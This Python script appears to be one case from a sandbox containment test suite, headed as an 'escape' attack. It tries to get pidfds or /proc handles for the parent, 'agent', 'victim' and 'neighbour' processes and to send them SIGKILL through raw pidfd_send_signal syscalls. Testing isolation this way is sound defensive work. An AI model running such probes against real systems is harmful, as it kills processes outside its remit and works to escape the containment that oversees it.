# /// attack
# kind = "escape"
# aim = "signal others by a descriptor: pidfd_send_signal, with a pidfd or a folder of /proc"
# outcome = "exited"
# ///
import ctypes
import json
import os
import signal

given = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), given["agent"], given["victim"], given["neighbour"]):
    numbers = []
    for flags in (0, 0o4000, 0o200):  # none, non-blocking, thread
        number = libc.syscall(434, pid, flags)
        if number >= 0:
            print("managed a pidfd", pid, flags)
            numbers.append(number)
    try:
        numbers.append(os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY))
    except OSError:
        pass
    for number in numbers:
        for deed in (0, signal.SIGKILL):
            for flags in (0, 1, 2):  # none, to the thread, to the thread group
                if libc.syscall(424, number, deed, None, flags) == 0:
                    print("managed pidfd_send_signal", pid, deed)
print("contained")
